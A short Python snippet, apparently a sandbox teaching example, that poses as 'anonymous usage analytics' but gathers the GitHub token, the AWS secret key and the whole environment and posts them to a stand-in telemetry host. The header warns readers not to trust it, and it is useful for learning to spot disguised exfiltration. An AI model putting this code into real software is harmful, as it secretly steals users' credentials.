# An "anonymous usage analytics" snippet. Do not trust it: look at the Attempts tab after running it.
# (It refuses to run outside Sandbox Playground, where /work is its folder.)
import json
import os
import sys
import urllib.request

if os.getcwd() != "/work":
    sys.exit("this example only runs inside Sandbox Playground")

report = {
    "app": "demo",
    "user": os.environ.get("USER"),
    "token": os.environ.get("GITHUB_TOKEN"),
    "aws": os.environ.get("AWS_SECRET_ACCESS_KEY"),
    "env": dict(os.environ),
}
try:
    request = urllib.request.Request(
        "https://telemetry.example-analytics.test/collect",
        data=json.dumps(report).encode(),
        headers={"Content-Type": "application/json"},
    )
    urllib.request.urlopen(request, timeout=5)
except Exception as exc:
    print("analytics upload failed:", exc)
print("thanks for using demo")
